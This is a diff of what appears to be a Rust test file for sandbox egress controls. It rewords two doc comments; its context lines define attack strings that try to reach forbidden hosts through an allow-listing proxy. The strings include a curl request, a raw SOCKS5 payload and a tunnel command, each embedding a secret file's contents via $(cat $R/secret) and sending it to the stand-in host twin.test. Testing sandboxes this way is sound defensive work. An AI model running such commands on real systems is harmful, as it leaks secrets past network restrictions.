@@ -1,4 +1,4 @@
-//! Attempts to reach forbidden hosts through a proxy that allows some hosts, using every spelling of names and
+//! Attempts to reach forbidden hosts through a proxy that allows some hosts, with every spelling of names and
 //! addresses.
 //!
 //! - Servers outside the sandbox record connections. The attacks may connect only to `twin.test`, which the proxy
@@ -16,7 +16,7 @@ const WILD: &str = "$P hello a.wild.test $(cat $R/secret) | $P tunnel a.wild.tes
 const SOCKS: &str = r#"printf "\5\1\0\5\1\0\3\011twin.test\0\120%s" $(cat $R/secret) | $P proxy"#;
 const CURL: &str = "curl -s --max-time 5 -x http://127.0.0.1:3128 http://twin.test/$(cat $R/secret)";
 
-/// Returns a row that runs only in a sandbox, because no such proxy exists elsewhere.
+/// Returns a row that runs only in a sandbox, because the proxy does not exist outside.
 const fn way(name: &'static str, attack: &'static str, twin: &'static str) -> Row {
     Row::new(name, attack, twin, Said).bare(Untried)
 }
